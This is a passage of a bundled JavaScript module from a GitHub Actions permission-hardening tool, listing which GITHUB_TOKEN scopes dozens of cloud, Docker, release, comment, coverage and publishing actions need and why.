export const id = 476;
export const ids = [476];
export const modules = {

/***/ 8476:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  COMMAND_KNOWLEDGE: () => (/* reexport */ COMMAND_KNOWLEDGE),
  DEFAULT_PATHS: () => (/* reexport */ DEFAULT_PATHS),
  EXCESSIVE_PERMISSIONS: () => (/* reexport */ EXCESSIVE_PERMISSIONS),
  KNOWLEDGE_BASE: () => (/* reexport */ KNOWLEDGE_BASE),
  KNOWN_TOOLS: () => (/* reexport */ KNOWN_TOOLS),
  SCOPES: () => (/* reexport */ SCOPES),
  SCOPE_LEVELS: () => (/* reexport */ SCOPE_LEVELS),
  UNDOCUMENTED_PERMISSIONS: () => (/* reexport */ UNDOCUMENTED_PERMISSIONS),
  UNKNOWN_ACTION_PERMISSIONS: () => (/* reexport */ UNKNOWN_ACTION_PERMISSIONS),
  analyzeRunScript: () => (/* reexport */ analyzeRunScript),
  audit: () => (/* reexport */ command_audit),
  auditPatterns: () => (/* reexport */ auditPatterns),
  combinedFix: () => (/* reexport */ combinedFix),
  computeJobPermissions: () => (/* reexport */ computeJobPermissions),
  effectiveGrant: () => (/* reexport */ effectiveGrant),
  fixArtipacked: () => (/* reexport */ fixArtipacked),
  fixPermissions: () => (/* reexport */ fixPermissions),
  formatScopes: () => (/* reexport */ formatScopes),
  ghNeeds: () => (/* reexport */ ghNeeds),
  githubScriptNeeds: () => (/* reexport */ githubScriptNeeds),
  hardenPermissionsCommand: () => (/* reexport */ hardenPermissionsCommand),
  hardenPermissionsRules: () => (/* reexport */ hardenPermissionsRules),
  isScope: () => (/* reexport */ isScope),
  keptRights: () => (/* reexport */ keptRights),
  localLoader: () => (/* reexport */ localLoader),
  lookupAction: () => (/* reexport */ lookupAction),
  majorOf: () => (/* reexport */ majorOf),
  octokitNeeds: () => (/* reexport */ octokitNeeds),
  patternRules: () => (/* reexport */ patternRules),
  permissionFindings: () => (/* reexport */ permissionFindings),
  permissionRules: () => (/* reexport */ permissionRules),
  restNeeds: () => (/* reexport */ restNeeds),
  splitUses: () => (/* reexport */ splitUses),
  targetScopes: () => (/* reexport */ targetScopes)
});

;// CONCATENATED MODULE: ./packages/permissions/src/knowledge/helpers.ts
/** The token arrives through `input`, which defaults to `${{ github.token }}`. */
function tokenInput(input) {
    return { input, defaultsToGithubToken: true };
}
/** The token arrives through `input` only when the workflow passes it (no default). */
function explicitInput(input) {
    return { input, defaultsToGithubToken: false };
}
/** The token arrives through environment variables the workflow sets. */
function tokenEnv(...names) {
    return { env: names };
}
function need(scope, level, reason, when) {
    return when ? { scope, level, reason, when } : { scope, level, reason };
}
/** id-token: write for an OIDC token request: independent of how the GITHUB_TOKEN is passed. */
function oidc(reason, when) {
    return when
        ? { scope: 'id-token', level: 'write', reason, via: 'oidc', when }
        : { scope: 'id-token', level: 'write', reason, via: 'oidc' };
}
const set = (input) => ({ input, set: true });
const unset = (input) => ({ input, set: false });
const isTrue = (input) => ({ input, oneOf: ['true'] });
const notFalse = (input) => ({ input, notOneOf: ['false'] });

;// CONCATENATED MODULE: ./packages/permissions/src/knowledge/cloud.ts

const nothing = (uses, summary) => ({ uses, summary, needs: [] });
/** Containers and clouds: `docker/*`, `aws-actions/*`, `azure/*`, `google-github-actions/*`. */
const cloudActions = [
    {
        uses: 'docker/login-action',
        summary: 'Logs in to a container registry; the GITHUB_TOKEN works as the password for ghcr.io.',
        token: explicitInput('password'),
        needs: [
            need('packages', 'write', 'logs in to ghcr.io with the GITHUB_TOKEN to push images', {
                input: 'registry',
                matches: '^(https?://)?ghcr\\.io',
            }),
        ],
    },
    nothing('docker/setup-buildx-action', 'Sets up Docker Buildx.'),
    nothing('docker/setup-qemu-action', 'Installs QEMU static binaries for multi-platform builds.'),
    nothing('docker/setup-docker-action', 'Installs a Docker engine.'),
    nothing('docker/setup-compose-action', 'Installs Docker Compose.'),
    {
        uses: 'docker/build-push-action',
        summary: 'Builds (and pushes) an image with Buildx.',
        token: tokenInput('github-token'),
        needs: [need('contents', 'read', "fetches the repository's Git context for the build")],
    },
    {
        uses: 'docker/bake-action',
        summary: 'Builds images from a Bake definition.',
        token: tokenInput('github-token'),
        needs: [need('contents', 'read', "fetches the repository's Git context for the build")],
    },
    {
        uses: 'docker/metadata-action',
        summary: 'Computes image tags and labels from the Git event (repository metadata only, always readable).',
        token: tokenInput('github-token'),
        needs: [],
    },
    {
        uses: 'docker/scout-action',
        summary: 'Scans images with Docker Scout.',
        token: tokenInput('github-token'),
        defaults: { 'write-comment': 'true' },
        needs: [need('pull-requests', 'write', 'comments the comparison on the pull request', notFalse('write-comment'))],
    },
    nothing('docker/github-builder', 'Reusable build workflows for Docker images.'),
    {
        uses: 'aws-actions/configure-aws-credentials',
        summary: 'Configures AWS credentials, by OIDC role assumption or static keys.',
        needs: [
            oidc('exchanges an OIDC token for the AWS role', [
                set('role-to-assume'),
                unset('aws-access-key-id'),
                unset('web-identity-token-file'),
            ]),
        ],
    },
    nothing('aws-actions/amazon-ecr-login', 'Logs Docker in to Amazon ECR with the configured AWS credentials.'),
    nothing('aws-actions/amazon-ecs-deploy-task-definition', 'Registers and deploys an ECS task definition.'),
    nothing('aws-actions/amazon-ecs-render-task-definition', 'Inserts an image into an ECS task definition.'),
    nothing('aws-actions/aws-cloudformation-github-deploy', 'Deploys a CloudFormation stack.'),
    nothing('aws-actions/aws-codebuild-run-build', 'Runs an AWS CodeBuild project.'),
    nothing('aws-actions/aws-secretsmanager-get-secrets', 'Reads secrets from AWS Secrets Manager into the environment.'),
    nothing('aws-actions/setup-sam', 'Installs the AWS SAM CLI.'),
    nothing('aws-actions/aws-lambda-deploy', 'Deploys an AWS Lambda function.'),
    nothing('aws-actions/amazon-eks-fargate', 'Creates an EKS cluster on Fargate.'),
    {
        uses: 'aws-actions/closed-issue-message',
        summary: 'Comments on issues when they are closed.',
        token: explicitInput('repo-token'),
        needs: [need('issues', 'write', 'comments on the closed issue')],
    },
    {
        uses: 'aws-actions/stale-issue-cleanup',
        summary: 'Labels and closes stale issues.',
        token: explicitInput('repo-token'),
        needs: [
            need('issues', 'write', 'labels, comments on and closes issues'),
            need('pull-requests', 'write', 'labels, comments on and closes pull requests'),
        ],
    },
    {
        uses: 'azure/login',
        summary: 'Logs in to Azure, by OIDC federation or a service principal secret.',
        needs: [oidc('exchanges an OIDC token for the Azure identity', [set('client-id'), unset('creds')])],
    },
    nothing('azure/webapps-deploy', 'Deploys to Azure App Service.'),
    nothing('azure/functions-action', 'Deploys to Azure Functions.'),
    nothing('azure/cli', 'Runs Azure CLI commands.'),
    nothing('azure/powershell', 'Runs Azure PowerShell.'),
    nothing('azure/arm-deploy', 'Deploys an ARM or Bicep template.'),
    nothing('azure/docker-login', 'Logs in to a container registry (deprecated).'),
    nothing('azure/container-apps-deploy-action', 'Builds and deploys Azure Container Apps.'),
    nothing('azure/aks-set-context', 'Sets the kubeconfig for an AKS cluster.'),
    nothing('azure/k8s-set-context', 'Sets the kubeconfig for a Kubernetes cluster.'),
    nothing('azure/setup-kubectl', 'Installs kubectl.'),
    nothing('azure/setup-helm', 'Installs Helm.'),
    nothing('azure/k8s-bake', 'Renders Kubernetes manifests.'),
    nothing('azure/k8s-create-secret', 'Creates a Kubernetes secret.'),
    nothing('azure/use-kubelogin', 'Installs kubelogin.'),
    nothing('azure/sql-action', 'Deploys to Azure SQL.'),
    nothing('azure/appservice-settings', 'Configures Azure App Service settings.'),
    nothing('azure/get-keyvault-secrets', 'Reads Azure Key Vault secrets (deprecated).'),
    {
        uses: 'azure/k8s-deploy',
        summary: 'Deploys manifests to Kubernetes and annotates them with the run.',
        token: tokenInput('token'),
        needs: [need('actions', 'read', 'reads the workflow run to annotate the deployed resources')],
    },
    {
        uses: 'azure/static-web-apps-deploy',
        summary: 'Deploys to Azure Static Web Apps; with repo_token it comments preview URLs.',
        token: explicitInput('repo_token'),
        needs: [need('pull-requests', 'write', 'comments the preview URL on the pull request')],
    },
    {
        uses: 'google-github-actions/auth',
        summary: 'Authenticates to Google Cloud, by Workload Identity Federation or a key.',
        needs: [
            oidc('exchanges an OIDC token through Workload Identity Federation', [
                set('workload_identity_provider'),
                unset('credentials_json'),
            ]),
        ],
    },
    nothing('google-github-actions/setup-gcloud', 'Installs the gcloud CLI.'),
    nothing('google-github-actions/deploy-cloudrun', 'Deploys to Cloud Run.'),
    nothing('google-github-actions/deploy-appengine', 'Deploys to App Engine.'),
    nothing('google-github-actions/deploy-cloud-functions', 'Deploys Cloud Functions.'),
    nothing('google-github-actions/deploy-gke', 'Deploys to GKE.'),
    nothing('google-github-actions/get-gke-credentials', 'Configures kubectl for a GKE cluster.'),
    nothing('google-github-actions/get-secretmanager-secrets', 'Reads Secret Manager secrets.'),
    nothing('google-github-actions/upload-cloud-storage', 'Uploads files to Cloud Storage.'),
    nothing('google-github-actions/analyze-code-security-scc', 'Scans IaC with Security Command Center.'),
    nothing('google-github-actions/send-google-chat-webhook', 'Posts a message to Google Chat.'),
    {
        uses: 'google-github-actions/release-please-action',
        summary: 'Release PRs and releases from conventional commits (the old home of release-please).',
        token: tokenInput('token'),
        needs: [
            need('contents', 'write', 'creates releases, tags and the release branch'),
            need('pull-requests', 'write', 'opens and updates the release pull request'),
            need('issues', 'write', 'labels the release pull request'),
        ],
    },
    {
        uses: 'google-github-actions/run-gemini-cli',
        summary: 'Runs the Gemini CLI agent on issues and pull requests.',
        needs: [
            oidc('authenticates to Vertex AI through Workload Identity Federation', set('gcp_workload_identity_provider')),
        ],
    },
];

;// CONCATENATED MODULE: ./packages/permissions/src/knowledge/community.ts

const community_nothing = (uses, summary) => ({ uses, summary, needs: [] });
/** Release and pull-request bots, coverage, publishing, toolchains and other widely used actions. */
const communityActions = [
    // Releases.
    {
        uses: 'softprops/action-gh-release',
        source: 'https://github.com/softprops/action-gh-release',
        summary: 'Creates a GitHub release and uploads assets.',
        token: tokenInput('token'),
        needs: [
            need('contents', 'write', 'creates the release and uploads its assets'),
            need('discussions', 'write', 'opens a discussion for the release', set('discussion_category_name')),
        ],
    },
    {
        uses: 'ncipollo/release-action',
        summary: 'Creates or updates a GitHub release.',
        token: tokenInput('token'),
        needs: [need('contents', 'write', 'creates or updates the release')],
    },
    {
        uses: 'googleapis/release-please-action',
        source: 'https://github.com/googleapis/release-please-action',
        summary: 'Release pull requests and releases from conventional commits.',
        token: tokenInput('token'),
        needs: [
            need('contents', 'write', 'creates releases, tags and the release branch'),
            need('pull-requests', 'write', 'opens and updates the release pull request'),
            need('issues', 'write', 'labels the release pull request'),
        ],
    },
    {
        uses: 'changesets/action',
        source: 'https://github.com/changesets/action#inputs',
        summary: 'Opens a version pull request from changesets, or publishes.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [
            need('contents', 'write', 'pushes the version branch and creates releases'),
            need('pull-requests', 'write', 'opens and updates the version pull request'),
        ],
        // https://github.com/changesets/action#inputs: `publish` and `version` are commands it runs.
        runsInputs: ['publish', 'version'],
    },
    {
        uses: 'release-drafter/release-drafter',
        summary: 'Drafts release notes from merged pull requests.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [
            need('contents', 'write', 'creates and updates the draft release'),
            need('pull-requests', 'write', 'labels pull requests (autolabeler)'),
        ],
    },
    {
        uses: 'svenstaro/upload-release-action',
        summary: 'Uploads files to a release.',
        token: tokenInput('repo_token'),
        needs: [need('contents', 'write', 'uploads release assets')],
    },
    {
        uses: 'goreleaser/goreleaser-action',
        source: 'https://goreleaser.com/ci/actions/',
        summary: 'Runs GoReleaser, which creates the GitHub release.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [need('contents', 'write', 'creates the release and uploads archives')],
        // https://goreleaser.com/ci/actions/: signing (cosign keyless) and ghcr.io images come from .goreleaser.yaml.
        mayUse: [
            { scope: 'id-token', reason: 'may sign keyless with cosign (signs / docker_signs in .goreleaser.yaml)' },
            { scope: 'packages', reason: 'may push images to ghcr.io (dockers in .goreleaser.yaml)' },
        ],
    },
    {
        uses: 'cycjimmy/semantic-release-action',
        source: 'https://github.com/cycjimmy/semantic-release-action',
        summary: 'Runs semantic-release.',
        token: tokenEnv('GITHUB_TOKEN', 'GH_TOKEN'),
        needs: [
            need('contents', 'write', 'pushes the release tag and creates the release'),
            need('issues', 'write', 'comments on issues fixed by the release'),
            need('pull-requests', 'write', 'comments on pull requests in the release'),
        ],
    },
    {
        uses: 'rymndhng/release-on-push-action',
        summary: 'Tags and releases on every push to the default branch.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [need('contents', 'write', 'creates the tag and release')],
    },
    {
        uses: 'mikepenz/release-changelog-builder-action',
        summary: 'Builds a changelog from pull requests between two tags.',
        token: tokenInput('token'),
        needs: [
            need('contents', 'read', 'compares the two tags'),
            need('pull-requests', 'read', 'reads the merged pull requests'),
        ],
    },
    {
        uses: 'cli/gh-extension-precompile',
        summary: 'Builds a gh extension and attaches binaries to the release.',
        token: tokenInput('github_token'),
        needs: [need('contents', 'write', 'uploads the binaries to the release')],
    },
    {
        uses: 'helm/chart-releaser-action',
        summary: 'Packages Helm charts and publishes them as releases and a gh-pages index.',
        token: tokenEnv('CR_TOKEN'),
        needs: [need('contents', 'write', 'creates chart releases and pushes the index to gh-pages')],
    },
    {
        uses: 'anchore/sbom-action',
        summary: 'Generates an SBOM with Syft; attaches it to releases on release events.',
        token: tokenInput('github-token'),
        defaults: { 'upload-release-assets': 'true', 'dependency-snapshot': 'false' },
        needs: [
            need('contents', 'write', 'attaches the SBOM to the release (release events)', notFalse('upload-release-assets')),
            need('contents', 'write', 'submits a dependency snapshot', isTrue('dependency-snapshot')),
        ],
    },
    {
        uses: 'sigstore/gh-action-sigstore-python',
        summary: 'Signs files with Sigstore (keyless).',
        token: tokenInput('release-signing-artifacts-token'),
        needs: [
            oidc('gets the OIDC token Sigstore certifies'),
            need('contents', 'write', 'uploads signatures to the release', isTrue('release-signing-artifacts')),
        ],
    },
    // Pull requests, issues, comments.
    {
        uses: 'peter-evans/create-pull-request',
        summary: 'Commits changes to a branch and opens or updates a pull request.',
        token: tokenInput('token'),
        needs: [
            need('contents', 'write', 'pushes the pull request branch'),
            need('pull-requests', 'write', 'opens and updates the pull request'),
        ],
    },
    {
        uses: 'peter-evans/create-or-update-comment',
        summary: 'Creates or updates a comment on an issue or pull request.',
        token: tokenInput('token'),
        needs: [need('issues', 'write', 'comments on issues'), need('pull-requests', 'write', 'comments on pull requests')],
    },
    {
        uses: 'peter-evans/find-comment',
        summary: 'Finds a comment on an issue or pull request.',
        token: tokenInput('token'),
        needs: [
            need('issues', 'read', 'lists issue comments'),
            need('pull-requests', 'read', 'lists pull request comments'),
        ],
    },
    {
        uses: 'peter-evans/repository-dispatch',
        summary: 'Sends a repository_dispatch event.',
        token: tokenInput('token'),
        needs: [need('contents', 'write', 'creates the repository_dispatch event')],
    },
    {
        uses: 'peter-evans/slash-command-dispatch',
        summary: 'Dispatches slash commands in comments as repository_dispatch events.',
        token: tokenInput('token'),
        needs: [
            need('contents', 'write', 'creates the dispatch event'),
            need('issues', 'write', 'reacts to the command comment'),
            need('pull-requests', 'write', 'reacts to the command comment on pull requests'),
        ],
    },
    {
        uses: 'peter-evans/enable-pull-request-automerge',
        summary: 'Enables auto-merge on a pull request.',
        token: tokenInput('token'),
        needs: [
            need('contents', 'write', 'auto-merge merges into the base branch'),
            need('pull-requests', 'write', 'enables auto-merge on the pull request'),
        ],
    },
    {
        uses: 'peter-evans/close-issue',
        summary: 'Closes an issue, optionally with a comment.',
        token: tokenInput('token'),
        needs: [need('issues', 'write', 'comments on and closes the issue')],
    },
    {
        uses: 'peter-evans/close-pull',
        summary: 'Closes a pull request, optionally deleting its branch.',
        token: tokenInput('token'),
        defaults: { 'delete-branch': 'false' },
        needs: [
            need('pull-requests', 'write', 'comments on and closes the pull request'),
            need('contents', 'write', 'deletes the pull request branch', isTrue('delete-branch')),
        ],
    },
    {
        uses: 'peter-evans/create-issue-from-file',
        summary: 'Creates an issue from a file.',
        token: tokenInput('token'),
        needs: [need('issues', 'write', 'creates or updates the issue')],
    },
    {
        uses: 'peter-evans/commit-comment',
        summary: 'Comments on a commit.',
        token: tokenInput('token'),
        needs: [need('contents', 'write', 'creates the commit comment')],
    },
    community_nothing('peter-evans/dockerhub-description', 'Updates a Docker Hub description (Docker Hub credentials only).'),
    {
        uses: 'dependabot/fetch-metadata',
        summary: 'Reads what a Dependabot pull request updates.',
        token: tokenInput('github-token'),
        needs: [
            need('pull-requests', 'read', 'reads the Dependabot pull request and its commits'),
            need('vulnerability-alerts', 'read', 'looks up the Dependabot alert behind the update', isTrue('alert-lookup')),
        ],
    },
    {
        uses: 'actions-ecosystem/action-add-labels',
        summary: 'Adds labels to an issue or pull request.',
        token: tokenInput('github_token'),
        needs: [
            need('issues', 'write', 'adds labels to issues'),
            need('pull-requests', 'write', 'adds labels to pull requests'),
        ],
    },
    {
        uses: 'actions-ecosystem/action-remove-labels',
        summary: 'Removes labels from an issue or pull request.',
        token: tokenInput('github_token'),
        needs: [
            need('issues', 'write', 'removes labels from issues'),
            need('pull-requests', 'write', 'removes labels from pull requests'),
        ],
    },
    {
        uses: 'marocchino/sticky-pull-request-comment',
        summary: 'Creates or updates one pull request comment.',
        token: tokenInput('GITHUB_TOKEN'),
        needs: [need('pull-requests', 'write', 'creates and updates the comment')],
    },
    {
        uses: 'thollander/actions-comment-pull-request',
        summary: 'Comments on a pull request.',
        token: tokenInput('github-token'),
        needs: [need('pull-requests', 'write', 'creates the comment')],
    },
    {
        uses: 'mshick/add-pr-comment',
        summary: 'Adds a comment to a pull request or issue.',
        token: tokenInput('repo-token'),
        needs: [
            need('pull-requests', 'write', 'comments on the pull request'),
            need('issues', 'write', 'comments on the issue'),
        ],
    },
    {
        uses: 'amannn/action-semantic-pull-request',
        summary: 'Checks that pull request titles follow Conventional Commits.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [
            need('pull-requests', 'read', 'reads the pull request title and commits'),
            need('statuses', 'write', 'sets a pending status for work-in-progress titles', isTrue('wip')),
        ],
    },
    {
        uses: 'timonvs/pr-labeler-action',
        summary: 'Labels pull requests by branch name.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [need('pull-requests', 'write', 'adds labels to the pull request')],
    },
    {
        uses: 'hmarr/auto-approve-action',
        summary: 'Approves a pull request.',
        token: tokenInput('github-token'),
        needs: [need('pull-requests', 'write', 'submits an approving review')],
    },
    {
        uses: 'pascalgn/automerge-action',
        summary: 'Merges labelled pull requests.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [
            need('contents', 'write', 'merges into the base branch'),
            need('pull-requests', 'write', 'updates and merges the pull request'),
        ],
    },
    {
        uses: 'fastify/github-action-merge-dependabot',
        summary: 'Approves and merges Dependabot pull requests.',
        token: tokenInput('github-token'),
        needs: [
            need('contents', 'write', 'merges into the base branch'),
            need('pull-requests', 'write', 'approves and merges the pull request'),
        ],
    },
    {
        uses: 'kentaro-m/auto-assign-action',
        summary: 'Adds reviewers and assignees to pull requests.',
        token: tokenInput('repo-token'),
        needs: [need('pull-requests', 'write', 'requests reviewers and sets assignees')],
    },
    {
        uses: 'eps1lon/actions-label-merge-conflict',
        summary: 'Labels pull requests that have merge conflicts.',
        token: explicitInput('repoToken'),
        needs: [
            need('pull-requests', 'write', 'labels and comments on conflicting pull requests'),
            need('issues', 'write', 'labels pull requests through the issues API'),
        ],
    },
    {
        uses: 'andymckay/labeler',
        summary: 'Adds or removes fixed labels.',
        token: tokenInput('repo-token'),
        needs: [
            need('issues', 'write', 'changes labels on issues'),
            need('pull-requests', 'write', 'changes labels on pull requests'),
        ],
    },
    {
        uses: 'crazy-max/ghaction-github-labeler',
        summary: 'Syncs repository labels from a YAML file.',
        token: tokenInput('github-token'),
        needs: [need('issues', 'write', 'creates, updates and deletes labels')],
    },
    {
        uses: 'jwalton/gh-find-current-pr',
        summary: 'Finds the pull request of the current commit.',
        token: tokenInput('github-token'),
        needs: [need('pull-requests', 'read', 'lists pull requests for the commit')],
    },
    {
        uses: '8bitjonny/gh-get-current-pr',
        summary: 'Finds the pull request of the current commit.',
        token: tokenInput('github-token'),
        needs: [need('pull-requests', 'read', 'lists pull requests for the commit')],
    },
    {
        uses: 'xt0rted/pull-request-comment-branch',
        summary: 'Reads the branch of the pull request a comment is on.',
        token: tokenInput('repo_token'),
        needs: [need('pull-requests', 'read', 'reads the pull request')],
    },
    {
        uses: 'tj-actions/changed-files',
        summary: 'Lists files changed by a push or pull request.',
        token: tokenInput('token'),
        needs: [need('pull-requests', 'read', 'lists the pull request files through the API')],
    },
    {
        uses: 'dorny/paths-filter',
        summary: 'Filters jobs by changed paths.',
        token: tokenInput('token'),
        needs: [need('pull-requests', 'read', 'lists the pull request files through the API')],
    },
    {
        uses: 'octokit/request-action',
        summary: 'Calls one REST endpoint, given as a route.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [],
        analyze: { kind: 'octokit-route', input: 'route' },
    },
    // Tests, coverage, checks.
    {
        uses: 'dorny/test-reporter',
        summary: 'Publishes test results as a check run.',
        token: tokenInput('token'),
        needs: [
            need('checks', 'write', 'creates the check run with the results'),
            need('actions', 'read', 'reads test-result artifacts', set('artifact')),
        ],
    },
    {
        uses: 'enricomi/publish-unit-test-result-action',
        summary: 'Publishes test results as a check run and a pull request comment.',
        token: tokenInput('github_token'),
        needs: [
            need('checks', 'write', 'creates the check run with the results'),
            need('pull-requests', 'write', 'comments the results on the pull request'),
            need('contents', 'read', 'reads the commit'),
            need('issues', 'read', 'finds the pull request of the commit'),
        ],
    },
    {
        uses: 'mikepenz/action-junit-report',
        summary: 'Publishes JUnit results as a check run.',
        token: tokenInput('token'),
        needs: [need('checks', 'write', 'creates the check run with annotations')],
    },
    {
        uses: 'codecov/codecov-action',
        summary: 'Uploads coverage to Codecov (Codecov token or OIDC).',
        needs: [oidc('authenticates to Codecov with an OIDC token', isTrue('use_oidc'))],
    },
    {
        uses: 'codecov/test-results-action',
        summary: 'Uploads test results to Codecov.',
        needs: [oidc('authenticates to Codecov with an OIDC token', isTrue('use_oidc'))],
    },
    {
        uses: 'coverallsapp/github-action',
        summary: 'Uploads coverage to Coveralls (the token only identifies the repository).',
        token: tokenInput('github-token'),
        needs: [],
    },
    {
        uses: 'py-cov-action/python-coverage-comment-action',
        summary: 'Comments Python coverage on pull requests and stores badge data on a branch.',
        token: explicitInput('GITHUB_TOKEN'),
        needs: [
            need('pull-requests', 'write', 'comments coverage on the pull request'),
            need('contents', 'write', 'pushes coverage data to its storage branch'),
        ],
    },
    {
        uses: '5monkeys/cobertura-action',
        summary: 'Comments Cobertura coverage on pull requests.',
        token: tokenInput('repo_token'),
        needs: [need('pull-requests', 'write', 'comments coverage on the pull request')],
    },
    community_nothing('irongut/codecoveragesummary', 'Writes a coverage summary file.'),
    {
        uses: 'romeovs/lcov-reporter-action',
        summary: 'Comments lcov coverage on pull requests.',
        token: tokenInput('github-token'),
        needs: [need('pull-requests', 'write', 'comments coverage on the pull request')],
    },
    {
        uses: 'mishakav/pytest-coverage-comment',
        summary: 'Comments pytest coverage on pull requests.',
        token: tokenInput('github-token'),
        needs: [need('pull-requests', 'write', 'comments coverage on the pull request')],
    },
    {
        uses: 'davelosert/vitest-coverage-report-action',
        summary: 'Comments Vitest coverage on pull requests.',
        token: tokenInput('github-token'),
        needs: [need('pull-requests', 'write', 'comments coverage on the pull request')],
    },
    {
        uses: 'artiomtr/jest-coverage-report-action',
        summary: 'Comments Jest coverage on pull requests.',
        token: tokenInput('github-token'),
        needs: [
            need('pull-requests', 'write', 'comments coverage on the pull request'),
            need('checks', 'write', 'annotates uncovered lines'),
        ],
    },
    {
        uses: 'lewagon/wait-on-check-action',
        summary: 'Waits for other checks on a ref.',
        token: explicitInput('repo-token'),
        needs: [need('checks', 'read', 'reads check runs')],
    },
    {
        uses: 'fountainhead/action-wait-for-check',
        summary: 'Waits for a check on a ref.',
        token: explicitInput('token'),
        needs: [need('checks', 'read', 'reads check runs')],
    },
    // Workflow runs, deployments.
    {
        uses: 'styfle/cancel-workflow-action',
        summary: 'Cancels earlier runs of the same workflow.',
        token: tokenInput('access_token'),
        needs: [need('actions', 'write', 'cancels workflow runs')],
    },
    {
        uses: 'benc-uk/workflow-dispatch',
        summary: 'Triggers a workflow_dispatch run.',
        token: tokenInput('token'),
        needs: [need('actions', 'write', 'dispatches the workflow')],
    },
    {
        uses: 'dawidd6/action-download-artifact',
        summary: 'Downloads artifacts of another workflow run.',
        token: tokenInput('github_token'),
        needs: [need('actions', 'read', 'lists and downloads artifacts of other runs')],
    },
    {
        uses: 'bobheadxi/deployments',
        summary: 'Creates and updates GitHub deployments.',
        token: tokenInput('token'),
        needs: [need('deployments', 'write', 'creates deployments and deployment statuses')],
    },
    {
        uses: 'chrnorm/deployment-action',
        summary: 'Creates a GitHub deployment.',
        token: tokenInput('token'),
        needs: [need('deployments', 'write', 'creates the deployment')],
    },
    {
        uses: 'chrnorm/deployment-status',
        summary: 'Updates a GitHub deployment status.',
        token: tokenInput('token'),
        needs: [need('deployments', 'write', 'creates the deployment status')],
    },
    {
        uses: 'cloudflare/pages-action',
        summary: 'Deploys to Cloudflare Pages; with gitHubToken it creates GitHub deployments.',
        token: explicitInput('gitHubToken'),
        needs: [need('deployments', 'write', 'creates a GitHub deployment for the preview')],
    },
    community_nothing('cloudflare/wrangler-action', 'Runs Cloudflare Wrangler (Cloudflare credentials only).'),
    {
        uses: 'amondnet/vercel-action',
        summary: 'Deploys to Vercel; with github-token it comments and creates deployments.',
        token: explicitInput('github-token'),
        needs: [
            need('pull-requests', 'write', 'comments the preview URL'),
            need('deployments', 'write', 'creates a GitHub deployment'),
        ],
    },
    {
        uses: 'firebaseextended/action-hosting-deploy',
        summary: 'Deploys to Firebase Hosting; with repoToken it comments preview URLs.',
        token: explicitInput('repoToken'),
        needs: [
            need('pull-requests', 'write', 'comments the preview URL'),
            need('checks', 'write', 'reports the deploy as a check run'),
        ],
    },
    {
        uses: 'jamesives/github-pages-deploy-action',
        summary: 'Pushes a folder to a Pages branch.',
        token: tokenInput('token'),
        needs: [need('contents', 'write', 'pushes to the deployment branch')],
    },
    {
        uses: 'peaceiris/actions-gh-pages',
        source: 'https://github.com/peaceiris/actions-gh-pages',
        summary: 'Pushes a folder to the gh-pages branch.',
        token: explicitInput('github_token'),
        needs: [need('contents', 'write', 'pushes to the gh-pages branch')],
    },
    {
        uses: 'crazy-max/ghaction-github-pages',
        summary: 'Pushes a folder to a Pages branch.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [need('contents', 'write', 'pushes to the Pages branch')],
    },
    {
        uses: 'stefanzweifel/git-auto-commit-action',
        summary: "Commits and pushes changed files with checkout's persisted credentials.",
        token: { gitCredentials: true },
        needs: [need('contents', 'write', 'pushes the commit')],
    },
    {
        uses: 'endbug/add-and-commit',
        summary: 'Commits and pushes changed files.',
        token: tokenInput('github_token'),
        needs: [need('contents', 'write', 'pushes the commit')],
    },
    {
        uses: 'ad-m/github-push-action',
        summary: 'Pushes local commits.',
        token: tokenInput('github_token'),
        needs: [need('contents', 'write', 'pushes the commits')],
    },
    // Publishing.
    {
        uses: 'pypa/gh-action-pypi-publish',
        source: 'https://github.com/pypa/gh-action-pypi-publish#trusted-publishing',
        summary: 'Publishes Python distributions; trusted publishing when no password is given.',
        needs: [oidc('exchanges an OIDC token with PyPI (trusted publishing)', unset('password'))],
    },
    {
        uses: 'js-devtools/npm-publish',
        source: 'https://github.com/JS-DevTools/npm-publish',
        summary: 'Publishes an npm package.',
        needs: [oidc('signs npm provenance with an OIDC token', isTrue('provenance'))],
    },
    {
        uses: 'rubygems/release-gem',
        source: 'https://github.com/rubygems/release-gem',
        summary: 'Releases a gem with trusted publishing and pushes the tag.',
        token: { gitCredentials: true },
        needs: [
            oidc('exchanges an OIDC token with RubyGems (trusted publishing)'),
            need('contents', 'write', 'pushes the release tag'),
        ],
    },
    {
        uses: 'rubygems/configure-rubygems-credentials',
        summary: 'Configures RubyGems credentials by trusted publishing.',
        needs: [oidc('exchanges an OIDC token with RubyGems')],
    },
    {
        uses: 'ossf/scorecard-action',
        summary: 'Runs OpenSSF Scorecard; optionally publishes results.',
        token: tokenInput('repo_token'),
        needs: [
            need('contents', 'read', 'reads the repository for the checks'),
            need('actions', 'read', 'reads workflow runs (private repositories)'),
            oidc('publishes results to the Scorecard API', isTrue('publish_results')),
        ],
    },
    {
        uses: 'zizmorcore/zizmor-action',
        summary: 'Audits workflows with zizmor and uploads SARIF.',
        token: tokenInput('token'),
        defaults: { 'advanced-security': 'true' },
        needs: [
            need('contents', 'read', 'reads the workflows'),
            need('security-events', 'write', 'uploads the results to code scanning', notFalse('advanced-security')),
            need('actions', 'read', 'reads the workflow run for code scanning (private repositories)', notFalse('advanced-security')),
        ],
    },
    {
        uses: 'super-linter/super-linter',
        summary: 'Runs many linters over the repository.',
        token: tokenEnv('GITHUB_TOKEN'),
        needs: [
            need('contents', 'read', 'reads the changed files'),
            need('statuses', 'write', 'reports each linter as a commit status'),
        ],
    },
    {
        uses: 'golangci/golangci-lint-action',
        summary: 'Runs golangci-lint.',
        token: tokenInput('github-token'),
        needs: [
            need('contents', 'read', 'reads the repository'),
            need('pull-requests', 'read', 'reads the pull request diff for only-new-issues', isTrue('only-new-issues')),
        ],
    },
    {
        uses: 'gradle/actions/setup-gradle',
        summary: 'Sets up Gradle with caching; can submit the dependency graph.',
        token: tokenInput('github-token'),
        needs: [
